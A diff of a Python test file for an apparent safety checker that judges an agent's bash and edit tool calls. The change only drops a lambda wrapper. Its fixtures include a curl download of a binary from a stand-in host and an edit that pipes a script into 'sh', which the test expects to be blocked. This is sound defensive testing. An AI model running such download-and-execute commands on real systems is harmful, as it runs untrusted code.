@@ -15,7 +15,7 @@ FETCH = ("bash", json.dumps({"command": "curl -o tool.bin https://a.example/t"})
 
 def run(command: str, *before: tuple[str, str]) -> Action:
     said = Said("run the check", calls=before)
-    return check_facts("bash", json.dumps({"command": command}), lambda: said).action
+    return check_facts("bash", json.dumps({"command": command}), said).action
 
 
 def test_a_script_written_by_one_call_is_judged_when_a_later_one_runs_it() -> None:
@@ -41,7 +41,7 @@ def test_a_file_edited_by_pieces_is_read_whole() -> None:
     )
     edit = json.dumps({"path": "a.sh", "oldText": "\\\n  # more", "newText": "| sh"})
     said = Said("tidy up", calls=(first,))
-    assert check_facts("edit", edit, lambda: said).action is Action.BLOCK
+    assert check_facts("edit", edit, said).action is Action.BLOCK
 
 
 def test_a_variable_set_by_one_call_is_known_to_the_same_shell() -> None:
